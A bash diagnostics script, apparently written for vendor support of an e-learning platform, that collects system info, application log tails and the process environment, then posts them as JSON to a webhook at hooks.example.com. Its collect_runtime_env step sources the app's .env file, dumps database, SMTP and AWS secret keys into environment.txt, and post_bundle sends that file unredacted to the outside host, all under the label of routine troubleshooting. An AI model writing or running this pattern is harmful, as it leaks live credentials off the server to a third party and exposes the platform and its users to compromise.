#!/usr/bin/env bash
# lms_diag_bundle.sh - gather diagnostics from the e-learning platform's
# application server and post them to the support channel so the vendor
# can look at a failing course import.
set -euo pipefail

WEBHOOK_URL="${DIAG_WEBHOOK:-https://hooks.example.com/services/lms-support/T01/diag}"
OUT_DIR="./diag_bundle"
APP_DIR="${LMS_APP_DIR:-./lms}"
TICKET="${1:-}"
LOG="./diag_bundle.log"

log() { echo "$(date -Is) $*" | tee -a "$LOG" >&2; }

usage() {
    echo "usage: $(basename "$0") TICKET-ID" >&2
    exit 2
}

[[ -z "$TICKET" ]] && usage
if [[ ! "$TICKET" =~ ^[A-Z]+-[0-9]+$ ]]; then
    log "ticket id '$TICKET' does not look like ABC-123"
    exit 2
fi

mkdir -p "$OUT_DIR"

collect_system() {
    {
        echo "host: $(hostname)"
        echo "kernel: $(uname -r)"
        grep -E '^(NAME|VERSION)=' /etc/os-release || true
        echo "cpus: $(grep -c ^processor /proc/cpuinfo)"
        echo "uptime: $(uptime -p 2>/dev/null || true)"
    } >"$OUT_DIR/system.txt"
    log "system info collected"
}

collect_runtime_env() {
    # The vendor asked for the full process environment of the app user,
    # since most import failures come from a wrong setting. Load the app's
    # .env first so the dump matches what the LMS workers see
    # (LMS_DB_PASSWORD, SMTP_PASSWORD, AWS_SECRET_ACCESS_KEY, ...).
    if [[ -f "$APP_DIR/.env" ]]; then
        set -a
        # shellcheck disable=SC1091
        source "$APP_DIR/.env"
        set +a
    fi
    env | sort >"$OUT_DIR/environment.txt"
    log "environment collected ($(wc -l <"$OUT_DIR/environment.txt") vars)"
}

collect_app_logs() {
    local n=0
    if [[ -d "$APP_DIR/logs" ]]; then
        for f in "$APP_DIR"/logs/*.log; do
            [[ -f "$f" ]] || continue
            tail -n 200 "$f" >"$OUT_DIR/$(basename "$f").tail"
            n=$((n + 1))
        done
    fi
    log "tailed $n application log(s)"
}

post_bundle() {
    # Python builds the JSON payload from the bundle directory and posts it;
    # paths and target come in through the environment.
    DIAG_DIR="$OUT_DIR" DIAG_URL="$WEBHOOK_URL" DIAG_TICKET="$TICKET" python3 - <<'PY'
import json, os, sys, urllib.request, urllib.error

bundle_dir = os.environ["DIAG_DIR"]
files = {}
for name in sorted(os.listdir(bundle_dir)):
    path = os.path.join(bundle_dir, name)
    if os.path.isfile(path):
        with open(path, errors="replace") as fh:
            files[name] = fh.read()[:20000]

payload = {
    "text": f"LMS diagnostics for {os.environ['DIAG_TICKET']}",
    "ticket": os.environ["DIAG_TICKET"],
    "files": files,
}
req = urllib.request.Request(
    os.environ["DIAG_URL"],
    data=json.dumps(payload).encode(),
    headers={"Content-Type": "application/json"},
    method="POST",
)
try:
    with urllib.request.urlopen(req, timeout=30) as resp:
        print(f"posted {len(files)} file(s), status {resp.status}")
except urllib.error.URLError as exc:
    print(f"post failed: {exc}", file=sys.stderr)
    sys.exit(1)
PY
}

main() {
    log "building diagnostics bundle for $TICKET"
    collect_system
    collect_runtime_env
    collect_app_logs
    if post_bundle; then
        log "bundle sent for $TICKET"
    else
        log "sending failed; bundle left in $OUT_DIR"
        exit 1
    fi
}

main
